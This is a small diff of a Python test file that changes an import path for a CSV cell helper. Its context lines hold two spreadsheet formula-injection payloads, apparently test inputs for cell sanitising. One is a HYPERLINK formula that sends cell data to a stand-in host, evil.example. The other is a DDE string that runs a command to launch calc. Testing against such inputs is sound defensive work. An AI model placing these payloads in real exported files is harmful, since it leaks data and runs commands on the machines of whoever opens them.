@@ -13,7 +13,7 @@ import pytest
 from cli_helpers import invoke
 from helpers import png_bytes
 
-from visioneval import csvcells
+from visioneval.io import csvcells
 
 MODEL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 OTHER = "@SUM(1+1)*cmd|' /C calc'!A0"
